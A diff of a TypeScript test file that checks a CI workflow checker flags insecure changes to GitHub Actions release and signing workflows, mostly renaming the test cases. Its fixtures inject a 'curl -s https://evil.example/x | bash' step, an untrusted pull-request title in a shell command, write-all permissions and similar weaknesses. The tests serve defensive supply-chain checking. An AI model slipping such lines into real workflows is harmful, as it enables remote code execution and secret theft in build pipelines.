@@ -78,41 +78,44 @@ const before = (line: string, more: string): [string, string] => [line, more + l
 
 test.each<[string, [string, string]]>([
   ['a download in a signing job', before(SIGNING, '      - run: curl -s https://evil.example/x | bash\n')],
-  ['a package manager there', before(SIGNING, '      - run: brew install foo && pip install bar\n')],
   [
-    'another one where the release is drafted',
+    'a package manager in a signing job',
+    before(SIGNING, '      - run: brew install foo && pip install bar\n'),
+  ],
+  [
+    'a package manager in the job that drafts the release',
     before('      - run: node packaging/write-feed.ts', '      - run: corepack yarn install\n'),
   ],
   [
-    'an image of someone else',
+    'a third-party image',
     ['    environment: release\n', '    environment: release\n    container: evil/image:latest\n'],
   ],
   [
-    'an action that is not pinned',
+    'an unpinned action',
     before('      - run: node packaging/electron-age.ts\n', '      - uses: evil/thing@v1\n'),
   ],
-  ['an attestation of something else', ["subject-path: 'packaging/out/*'", "subject-path: 'README.md'"]],
+  ['an attestation of another file', ["subject-path: 'packaging/out/*'", "subject-path: 'README.md'"]],
   [
-    'no attestation',
+    'a missing attestation',
     [
       "        with: { subject-path: 'packaging/out/*' }",
       "        if: false\n        with: { subject-path: 'packaging/out/*' }",
     ],
   ],
-  ['no approval', ['    environment: release\n', '']],
-  ['all permissions', ['permissions:\n  contents: read', 'permissions: write-all']],
-  ['a pull request with secrets', ['  pull_request:', '  pull_request_target:']],
+  ['a missing approval', ['    environment: release\n', '']],
+  ['write permission for everything', ['permissions:\n  contents: read', 'permissions: write-all']],
+  ['a pull request with access to secrets', ['  pull_request:', '  pull_request_target:']],
   [
-    'a stranger’s text in a command line',
+    'untrusted text in a command',
     before('      - run: npm run check\n', '      - run: echo "${{ github.event.pull_request.title }}"\n'),
   ],
-  ['kept credentials', ['persist-credentials: false', 'persist-credentials: true']],
+  ['persisted credentials', ['persist-credentials: false', 'persist-credentials: true']],
   [
-    'advisories that stop no one',
+    'an advisory check that cannot fail',
     ['      - run: npm audit --p', '      - continue-on-error: true\n        run: npm audit --p'],
   ],
-  ['advisories on one day in four years', ["'17 5 * * *'", "'17 5 29 2 *'"]],
-  ['advisories of the peers alone', ["['.', packaging/tools, ", '[']],
+  ['an advisory check that runs once in four years', ["'17 5 * * *'", "'17 5 29 2 *'"]],
+  ['an advisory check of the peers only', ["['.', packaging/tools, ", '[']],
 ])('detects %s', (_what, [from, to]) => {
   const texts = ['ci', 'release', 'advisories'].map((name) => textOf(`.github/workflows/${name}.yml`));
   expect(texts.some((text) => text.includes(from))).toBe(true);
